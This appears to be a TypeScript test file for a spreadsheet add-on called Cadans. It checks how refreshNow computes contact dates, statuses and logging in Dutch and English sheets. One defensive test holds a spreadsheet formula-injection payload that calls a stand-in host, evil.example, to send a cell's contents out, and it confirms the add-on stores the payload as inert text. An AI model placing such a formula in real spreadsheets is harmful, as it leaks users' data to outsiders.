// refreshNow: writes Volgend contact, Status and Dagen te laat for every relationship, as calendar
// dates of the SPREADSHEET's zone, logs every problem with its place, and touches nothing else.
// "Today" is the real today in the spreadsheet's zone (the bundle reads the clock itself).

import { describe, expect, it } from 'vitest';
import { addDays, daysBetween, diff, dutch, edate, formula, loadCadans, midnight, snapshot, todayIn, workbook } from './harness';

const HEADER = ['ID', 'Naam', 'Type', 'Organisatie', 'E-mail', 'Eigenaar', 'Tier', 'Laatste contact', 'Jaaromzet', 'Plaatsingen', 'Referrals', 'Actief', 'Notities', 'Regio', 'Volgend contact', 'Status', 'Dagen te laat', 'Controle'];
const NEXT = 15; // O
const STATUS = 16;
const OVERDUE = 17;
const MONTHS = { A: 1, B: 3, C: 6 } as const;

const SETTINGS = [
  ['Instelling', 'Waarde', 'Uitleg'],
  ['Taal', 'nl', ''],
  ['Maanden tussen contact, tier A', 1, ''],
  ['Maanden tussen contact, tier B', 3, ''],
  ['Maanden tussen contact, tier C', 6, ''],
  ['Venster binnenkort (dagen)', 7, ''],
  ['Landinstelling', '', ''],
  ['Tijdzone', '', ''],
  ['Vandaag', new Date(Date.UTC(2020, 0, 1)), ''],
];
const VANDAAG_ROW = 9;
const OLD_LOG = ['Tijdstip', 'Soort', 'Blad', 'Rij', 'Kolom', 'Waarde', 'Melding'];
const LOG = [...OLD_LOG, 'Datum', 'Eigenaar', 'Aantal'];

function statusOf(next: string, today: string, labels = { overdue: 'te laat', dueSoon: 'binnenkort', onTrack: 'op schema' }): string {
  const ahead = daysBetween(today, next);
  return ahead < 0 ? labels.overdue : ahead <= 7 ? labels.dueSoon : labels.onTrack;
}

/** Ten-odd relationships whose expected outcome follows from today in the sheet's zone. */
function scenario(tz: string) {
  const T = todayIn(tz);
  const day = (offset: number) => midnight(tz, addDays(T, offset));
  let n = 1;
  // Regio and Controle are the team's columns, on both sides of Cadans's three; Controle holds formulas.
  const row = (id: string, name: string, tier: unknown, last: unknown, active: unknown = '', regio = 'Noord') => [
    id, name, 'Klant', 'Org', '', 'joost@bureau.nl', tier, last, 1000, 1, 0, active, '', regio, '', '', '', formula(`=LEN(B${++n})`, name.length),
  ];
  const relaties: unknown[][] = [
    HEADER,
    row('R01', 'Anna', 'A', day(-2)),
    row('R02', 'Bram', 'A', day(-27)),
    row('R03', 'Chris', 'B', day(-120)),
    row('R04', 'Dirk', 'C', ''),
    row('R05', 'Eva', 'C', day(-400)),
    row('R06', 'Fleur', 'A', day(-100), 'nee'),
    row('R07', 'Gijs', 'B', '31-2-2026'),
    row('R08', 'Hanna', 'D', day(-10)),
    row('R09', 'Ivo', ' a-klant ', dutch(addDays(T, -10))),
    row('R10', 'Jet', 'Tier C', midnight(tz, edate(T, -6)), 'ja'),
    row('R11', 'Kees', 'b', day(-60), 'x', 'Zuid'),
  ];
  // Stale computed values in Hanna's row, which has no valid tier.
  relaties[8].splice(NEXT - 1, 3, day(-50), 'te laat', 12);
  const touchpoints = [
    ['Datum', 'Relatie-ID', 'Soort', 'Duur (min)', 'Eigenaar', 'Notities'],
    [day(-2), 'R05', 'Bel', 20, 'eva@bureau.nl', 'later dan Laatste contact: telt'],
    [day(5), 'R03', 'Lunch', 60, 'joost@bureau.nl', 'gepland: telt nog niet'],
    [day(-500), 'R05', 'Mail', 5, '', 'ouder'],
    [day(-1), 'R99', 'Bel', 10, '', 'onbekende relatie'],
  ];
  const expected: Record<string, { next: string | null; status: string; overdue: number | '' } | 'blank'> = {};
  const computed = (last: string | null, tier: keyof typeof MONTHS) => {
    if (last === null) return { next: T, status: 'nooit', overdue: 0 };
    const next = edate(last, MONTHS[tier]);
    const status = statusOf(next, T);
    return { next, status, overdue: status === 'te laat' ? daysBetween(next, T) : 0 };
  };
  expected.R01 = computed(addDays(T, -2), 'A');
  expected.R02 = computed(addDays(T, -27), 'A');
  expected.R03 = computed(addDays(T, -120), 'B');
  expected.R04 = computed(null, 'C');
  expected.R05 = computed(addDays(T, -2), 'C');
  expected.R06 = { next: null, status: 'inactief', overdue: '' };
  expected.R07 = computed(null, 'B');
  expected.R08 = 'blank';
  expected.R09 = computed(addDays(T, -10), 'A');
  expected.R10 = computed(edate(T, -6), 'C');
  expected.R11 = computed(addDays(T, -60), 'B');
  return { T, relaties, touchpoints, expected };
}

function build(tz: string) {
  const s = scenario(tz);
  const ss = workbook({
    timeZone: tz,
    sheets: {
      Relaties: s.relaties,
      Touchpoints: s.touchpoints,
      Instellingen: SETTINGS,
      // A Log from before the reminders: without Datum, Eigenaar and Aantal.
      Log: [OLD_LOG],
    },
  });
  return { ...s, ss };
}

describe.each(['Pacific/Auckland', 'America/Los_Angeles'])('refreshNow in a spreadsheet in %s', (tz) => {
  it('writes the expected next contact, status and days overdue for every relationship', () => {
    const { T, ss, expected, relaties } = build(tz);
    loadCadans(ss).refreshNow();
    const sheet = ss.$sheet('Relaties');
    const ids = relaties.slice(1).map((r) => r[0] as string);
    ids.forEach((id, i) => {
      const row = i + 2;
      const got = [sheet.$value(row, NEXT), sheet.$value(row, STATUS), sheet.$value(row, OVERDUE)];
      const e = expected[id];
      const want = e === 'blank' ? ['', '', ''] : [e.next === null ? '' : midnight(tz, e.next), e.status, e.overdue];
      expect(got, `${id} (today ${T})`).toEqual(want);
    });
    // The fixed ones, spelled out: whatever today is, these statuses hold.
    const statuses = Object.fromEntries(ids.map((id, i) => [id, sheet.$value(i + 2, STATUS)]));
    expect(statuses).toMatchObject({ R01: 'op schema', R02: 'binnenkort', R03: 'te laat', R04: 'nooit', R05: 'op schema', R06: 'inactief', R07: 'nooit', R08: '', R09: 'op schema', R11: 'op schema' });
    // A never-contacted relationship is due today, not overdue.
    expect(sheet.$value(5, NEXT)).toEqual(midnight(tz, T));
    expect(sheet.$value(5, OVERDUE)).toBe(0);
  });

  it('keeps today in Instellingen > Vandaag, as a date of the spreadsheet', () => {
    const { T, ss } = build(tz);
    loadCadans(ss).refreshNow();
    expect(ss.$sheet('Instellingen').$value(VANDAAG_ROW, 2)).toEqual(midnight(tz, T));
  });

  it('logs each bad cell with sheet, row, column and message, and still computes the other rows', () => {
    const { ss, expected } = build(tz);
    const cadans = loadCadans(ss);
    cadans.refreshNow();
    const log = ss.$sheet('Log').$values().slice(1);
    const problems = log.filter((r) => r[1] === 'probleem').map((r) => r.slice(2));
    // On an open problem, Datum is the day it was first seen and Aantal how many runs saw it (issue 9).
    const first = midnight(tz, todayIn(tz));
    expect(problems).toEqual([
      ['Relaties', 8, 'Laatste contact (H)', '31-2-2026', 'geen geldige datum; verwacht bijvoorbeeld 3-2-2026, 2026-02-03 of een datumcel (jaar 1900-9999)', first, '', 1],
      ['Relaties', 9, 'Tier (G)', 'D', 'geen geldige tier; verwacht A, B of C (ook a, A-klant, Tier B)', first, '', 1],
      ['Touchpoints', 5, 'Relatie-ID (B)', 'R99', 'geen relatie met dit ID in Relaties', first, '', 1],
    ]);
    // The older Log got its three new columns, to the right of its own.
    expect(ss.$sheet('Log').$row(1)).toEqual(LOG);
    const statuses = Object.values(expected).filter((e) => e !== 'blank').map((e) => (e as { status: string }).status);
    const count = (s: string) => statuses.filter((x) => x === s).length;
    const runs = log.filter((r) => r[1] === 'run');
    expect(runs).toHaveLength(1);
    expect(runs[0].slice(2)).toEqual([
      '', '', '', '',
      `refreshNow: 10 relaties, ${count('nooit')} nooit, ${count('te laat')} te laat, ${count('binnenkort')} binnenkort, ${count('op schema')} op schema, 1 inactief, 3 problemen`,
      '', '', '',
    ]);
    expect(Math.abs((runs[0][0] as Date).getTime() - Date.now())).toBeLessThan(60_000);
    expect(cadans.ss.toasts.map((t) => t.message)).toEqual(['Bezig met bijwerken…']);
    expect(cadans.ui.alerts.map((a) => a.prompt)).toEqual([
      `Bijgewerkt: 10 relaties, ${count('te laat')} te laat, 2 nooit gesproken, 3 problemen (zie tabblad Log).`,
    ]);
    // Run again: the same three problems, one row each, seen twice; the runs are history above them.
    cadans.refreshNow();
    const again = ss.$sheet('Log').$values().slice(1);
    expect(again.map((r) => r[1])).toEqual([...log.map((r) => r[1]).filter((k) => k !== 'probleem'), 'run', 'probleem', 'probleem', 'probleem']);
    expect(again.slice(-3).map((r) => [r[2], r[3], r[7], r[9]])).toEqual([
      ['Relaties', 8, first, 2],
      ['Relaties', 9, first, 2],
      ['Touchpoints', 5, first, 2],
    ]);
  });

  it('changes only its three columns, the Vandaag cell, the Log and its own Vandaag, KPI, Risico, Historie and Kwartaal tabs', () => {
    const { ss, relaties } = build(tz);
    const before = snapshot(ss);
    loadCadans(ss).refreshNow();
    const { changed, added } = diff(before, snapshot(ss));
    const ours = (key: string) => {
      const [sheet, cell] = key.split('!');
      const [row, column] = cell.split(',').map(Number);
      if (sheet === 'Relaties') return row >= 2 && row <= relaties.length && column >= NEXT && column <= OVERDUE;
      if (sheet === 'Instellingen') return row === VANDAAG_ROW && column === 2;
      // The generated tabs are Cadans's own, created by the first refresh.
      if (sheet === 'Vandaag' || sheet === 'KPI' || sheet === 'Risico' || sheet === 'Historie' || sheet === 'Kwartaal') return true;
      return sheet === 'Log' && row > 1;
    };
    expect(changed.filter((k) => !ours(k))).toEqual([]);
    // Besides those, only the older Log's three missing header cells, right of Melding.
    expect(added.filter((k) => !ours(k))).toEqual(['Log!1,8', 'Log!1,9', 'Log!1,10']);
    expect(ss.$sheet('Log').$row(1)).toEqual(LOG);
    expect(ss.sheets.map((s) => s.name).slice(-5)).toEqual(['Vandaag', 'KPI', 'Risico', 'Historie', 'Kwartaal']);
    // A second refresh finds the Log complete and adds no header cell.
    const again = snapshot(ss);
    loadCadans(ss).refreshNow();
    expect(diff(again, snapshot(ss)).added.filter((k) => !ours(k))).toEqual([]);
    // The user's formulas are still there.
    expect(ss.$sheet('Relaties').$formula(2, 18)).toBe('=LEN(B2)');
    expect(ss.$sheet('Relaties').$formulaCount()).toBe(relaties.length - 1);
  });

  it('names a date the way the spreadsheet shows it when it logs one', () => {
    // A Laatste contact after today is used, and logged; the Log must name that calendar date,
    // not the instant in UTC (which in Auckland is the day before).
    const T = todayIn(tz);
    const future = addDays(T, 3);
    const ss = workbook({
      timeZone: tz,
      sheets: { Relaties: [HEADER.slice(0, 13), ['R1', 'Anna', 'Klant', '', '', '', 'A', midnight(tz, future)]] },
    });
    loadCadans(ss).refreshNow();
    const problem = ss.$sheet('Log').$values().find((r) => r[1] === 'probleem')!;
    expect(problem.slice(2, 5)).toEqual(['Relaties', 2, 'Laatste contact (H)']);
    expect(problem[6]).toBe('ligt na vandaag; Cadans rekent er toch mee');
    const value = problem[5];
    const [y, m, d] = future.split('-');
    // A date cell of that day, or its text as the team writes it.
    const shown = value instanceof Date ? value.getTime() === midnight(tz, future).getTime() : [future, `${d}-${m}-${y}`, `${Number(d)}-${Number(m)}-${y}`].includes(String(value));
    expect(shown, `Log value ${String(value)} should name ${future}`).toBe(true);
  });
});

describe('refreshNow writes user text into the Log as text', () => {
  it('never turns a value that starts with = into a formula', () => {
    const injected = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
    const ss = workbook({
      timeZone: 'Europe/Amsterdam',
      sheets: { Relaties: [HEADER.slice(0, 13), ['R1', 'Anna', 'Klant', '', '', '', injected, '']] },
    });
    loadCadans(ss).refreshNow();
    const log = ss.$sheet('Log');
    expect(log.$formulaCount()).toBe(0);
    const problem = log.$values().find((r) => r[1] === 'probleem')!;
    expect(problem.slice(2, 6)).toEqual(['Relaties', 2, 'Tier (G)', injected]);
  });
});

describe('refreshNow in English', () => {
  it('writes English labels and reads month-first dates in en_US', () => {
    const tz = 'America/Los_Angeles';
    const T = todayIn(tz);
    const [y, m, d] = addDays(T, -2).split('-').map(Number);
    const ss = workbook({
      timeZone: tz,
      locale: 'en_US',
      sheets: {
        Relations: [
          ['ID', 'Name', 'Tier', 'Last contact', 'Active', 'Next contact', 'Status', 'Days overdue'],
          ['R1', 'Anna', 'A', `${m}/${d}/${y}`, 'yes'],
          ['R2', 'Bram', 'B', midnight(tz, addDays(T, -200)), ''],
          ['R3', 'Chris', 'C', '', 'no'],
        ],
        Settings: [['Setting', 'Value'], ['Language', 'en']],
      },
    });
    const cadans = loadCadans(ss);
    cadans.refreshNow();
    const sheet = ss.$sheet('Relations');
    const next2 = edate(addDays(T, -200), 3);
    expect(sheet.$values().slice(1).map((r) => r.slice(5))).toEqual([
      [midnight(tz, edate(addDays(T, -2), 1)), 'on track', 0],
      [midnight(tz, next2), 'overdue', daysBetween(next2, T)],
      ['', 'inactive', ''],
    ]);
    expect(cadans.ui.alerts[0].prompt).toBe('Refreshed: 3 relations, 1 overdue, 0 never contacted, 0 problems (see the Log tab).');
  });
});

describe('refreshNow before setup', () => {
  it('logs the missing tab instead of failing', () => {
    const ss = workbook({ timeZone: 'Pacific/Auckland' });
    const cadans = loadCadans(ss);
    cadans.refreshNow();
    const problems = ss.$sheet('Log').$values().filter((r) => r[1] === 'probleem').map((r) => r.slice(2));
    expect(problems).toEqual([['Relaties', '', '', '', 'tabblad ontbreekt; kies Cadans > Werkboek inrichten', midnight('Pacific/Auckland', todayIn('Pacific/Auckland')), '', 1]]);
    // The Log it created has every column.
    expect(ss.$sheet('Log').$row(1)).toEqual(LOG);
    expect(cadans.ui.alerts.map((a) => a.prompt)).toEqual(['Bijgewerkt: 0 relaties, 0 te laat, 0 nooit gesproken, 1 probleem (zie tabblad Log).']);
  });
});

describe('refreshNow on a row the team emptied', () => {
  it('treats a row holding only Cadans\'s old output as no relationship: no problems, output cleared', () => {
    const tz = 'Europe/Amsterdam';
    const T = todayIn(tz);
    const ss = workbook({
      timeZone: tz,
      sheets: {
        Relaties: [
          ['ID', 'Naam', 'Tier', 'Laatste contact', 'Volgend contact', 'Status', 'Dagen te laat'],
          ['R1', 'Anna', 'A', midnight(tz, addDays(T, -2))],
          ['', '', '', '', midnight(tz, '2026-01-01'), 'te laat', 300],
        ],
      },
    });
    const cadans = loadCadans(ss);
    cadans.refreshNow();
    expect(ss.$sheet('Log').$values().filter((r) => r[1] === 'probleem')).toEqual([]);
    expect(ss.$sheet('Relaties').$row(3)).toEqual(['', '', '', '', '', '', '']);
    expect(cadans.ui.alerts[0].prompt).toBe('Bijgewerkt: 1 relatie, 0 te laat, 0 nooit gesproken, 0 problemen (zie tabblad Log).');
  });
});
